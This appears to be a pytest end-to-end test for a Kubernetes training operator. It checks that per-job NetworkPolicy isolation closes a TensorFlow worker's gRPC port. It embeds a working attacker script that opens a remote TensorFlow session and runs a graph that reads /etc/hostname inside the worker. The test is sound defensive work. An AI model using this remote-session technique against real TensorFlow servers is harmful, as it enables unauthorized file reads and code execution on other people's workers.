"""A job's TensorFlow port, attacked as TensorFlow's security policy says it can be: while a
2-worker job trains, a Pod opens a TensorFlow session to `grpc://<job>-worker-0...:2222`
and runs a graph on `/job:worker/task:0` that reads a file inside the worker.

- With isolation opted out (spec.networkIsolation: None), the control: a Pod of another
  namespace reads the worker's /etc/hostname through the worker's own TensorFlow server.
- With isolation (the default: the job's NetworkPolicy, enforced by
  kube-network-policies), a Pod of another namespace and a Pod of another job in the same
  namespace cannot even connect (a 5 s TCP connect times out), and the job, whose replicas
  talk to each other through the same port, trains to success.
"""

from __future__ import annotations

import copy
import itertools
import json
import statistics
import time
import uuid
from typing import Any, Final

import pytest

from tests.controlplane.e2e_cluster import Cluster, create_namespace, wait_until
from tests.e2e.test_trainjob import JOB_TIMEOUT, RUNTIME_IMAGE, example

pytestmark = pytest.mark.e2e

# The attacker: a plain TCP connect first (bounded), then what TensorFlow's SECURITY.md
# warns of: a session on the job's server that runs a graph on one of its tasks.
ATTACK: Final = """
import os, socket, sys
host, port = sys.argv[1], int(sys.argv[2])
try:
    socket.create_connection((host, port), timeout=5).close()
except OSError as exc:
    print(f"CONNECT-FAILED {type(exc).__name__}: {exc}", flush=True)
    sys.exit(3)
print("CONNECTED", flush=True)
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "2"
import tensorflow as tf
with tf.Graph().as_default():
    with tf.device("/job:worker/task:0"):
        stolen = tf.io.read_file("/etc/hostname")
    config = tf.compat.v1.ConfigProto(operation_timeout_in_ms=30000)
    with tf.compat.v1.Session(f"grpc://{host}:{port}", config=config) as session:
        data = session.run(stolen)
print(f"STOLE {data.decode().strip()}", flush=True)
"""


def training_job(name: str, isolation: str | None, epochs: int) -> dict[str, Any]:
    job = copy.deepcopy(example("mnist-multiworker.yaml"))
    job["metadata"]["name"] = name
    job["spec"]["runtime"]["config"]["epochs"] = epochs
    job["spec"]["checkpoint"]["subPath"] = name
    job["spec"]["runPolicy"].pop("ttlSecondsAfterFinished", None)
    if isolation is not None:
        job["spec"]["networkIsolation"] = isolation
    return job


def epoch_seconds(cluster: Cluster, namespace: str, job: str, after: float) -> list[float]:
    """How long each epoch that began after `after` (epoch seconds: the node is this
    machine, so its clock is ours) took on worker 0, from its progress events."""
    times = [
        float(e["time"])
        for e in cluster.progress(namespace, f"{job}-worker-0")
        if e.get("event") == "epoch"
    ]
    return [later - earlier for earlier, later in itertools.pairwise(times) if earlier >= after]


def quiet_epochs(cluster: Cluster, namespace: str, job: str) -> list[float]:
    """Once the job trains, the durations of 3 or more of its epochs before anything else
    runs beside it (the figure printed at the end; not asserted: 2 shared cores)."""
    wait_training(cluster, namespace, job)
    since = time.time()
    return wait_until(
        lambda: (found := epoch_seconds(cluster, namespace, job, since))[2:] and found,
        timeout=JOB_TIMEOUT,
        what=f"3 epochs of {job}",
    )


def wait_training(cluster: Cluster, namespace: str, job: str) -> None:
    """Until worker 0 reports progress (both TensorFlow servers are up and training)."""

    def training() -> bool:
        status = cluster.get_json("trainjob", job, "-n", namespace).get("status") or {}
        return bool((status.get("progress") or {}).get("summary"))

    wait_until(training, timeout=JOB_TIMEOUT, what=f"{job} training")


def attack(
    cluster: Cluster, namespace: str, name: str, host: str, labels: dict[str, str] | None = None
) -> tuple[str, str]:
    """Run the attacker Pod to its end: (its phase, its log)."""
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "labels": labels or {"app": "attacker"}},
        "spec": {
            "restartPolicy": "Never",
            "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [
                {
                    "name": "attacker",
                    "image": RUNTIME_IMAGE,
                    "command": ["python", "-c", ATTACK, host, "2222"],
                    "securityContext": {
                        "allowPrivilegeEscalation": False,
                        "capabilities": {"drop": ["ALL"]},
                    },
                }
            ],
        },
    }
    cluster.apply(namespace, json.dumps(pod))

    def ended() -> str | None:
        phase = cluster.get_json("pod", name, "-n", namespace).get("status", {}).get("phase")
        return str(phase) if phase in ("Succeeded", "Failed") else None

    phase = wait_until(ended, timeout=180, what=f"the attacker {namespace}/{name}")
    return phase, cluster.kubectl("logs", name, "-n", namespace)


def test_tf_port_is_open_without_isolation_and_closed_to_other_namespaces_and_jobs_with_it(
    cluster: Cluster, namespace: str
) -> None:
    outside = f"outsider-{uuid.uuid4().hex[:6]}"
    create_namespace(cluster, outside)
    try:
        # The control: no policy, and a Pod of another namespace runs code in worker 0.
        cluster.apply(namespace, json.dumps(training_job("open-door", "None", epochs=30)))
        open_epochs = quiet_epochs(cluster, namespace, "open-door")
        assert not cluster.kubectl("get", "networkpolicy", "-n", namespace, "-o", "name").strip()
        phase, log = attack(cluster, outside, "thief", f"open-door-worker-0.{namespace}.svc")
        assert phase == "Succeeded" and "STOLE open-door-worker-0" in log, log
        cluster.kubectl("delete", "trainjob", "open-door", "-n", namespace, "--wait=false")

        # Isolated (the default): the same attack from another namespace, and from a Pod of
        # another job in the job's own namespace, cannot connect (a timeout: the packets are
        # dropped, where a port nobody listens on would refuse at once); the job trains on.
        cluster.apply(namespace, json.dumps(training_job("closed-door", None, epochs=30)))
        closed_epochs = quiet_epochs(cluster, namespace, "closed-door")
        host = f"closed-door-worker-0.{namespace}.svc"
        phase, log = attack(cluster, outside, "thief-2", host)
        assert phase == "Failed" and "CONNECT-FAILED TimeoutError" in log, log
        neighbour = {"trainjob.dev/job-name": "another-job"}
        phase, log = attack(cluster, namespace, "thief-next-door", host, neighbour)
        assert phase == "Failed" and "CONNECT-FAILED TimeoutError" in log, log
        assert cluster.conditions(namespace, "closed-door").get("Succeeded") != "True", (
            "the job ended before the attacks: they proved nothing"
        )
        assert cluster.wait_finished(namespace, "closed-door", JOB_TIMEOUT) == "Succeeded"
        steps = training_job("x", None, 1)["spec"]["runtime"]["config"]["steps_per_epoch"]
        open_rate = steps / statistics.median(open_epochs)
        closed_rate = steps / statistics.median(closed_epochs)
        print(
            "steps/s of worker 0, median of 3+ epochs before any attack: without the policy "
            f"{open_rate:.1f}, with it {closed_rate:.1f}; "
            f"ratio with/without {closed_rate / open_rate:.2f}"
        )
    finally:
        cluster.kubectl("delete", "namespace", outside, "--wait=false", check=False)
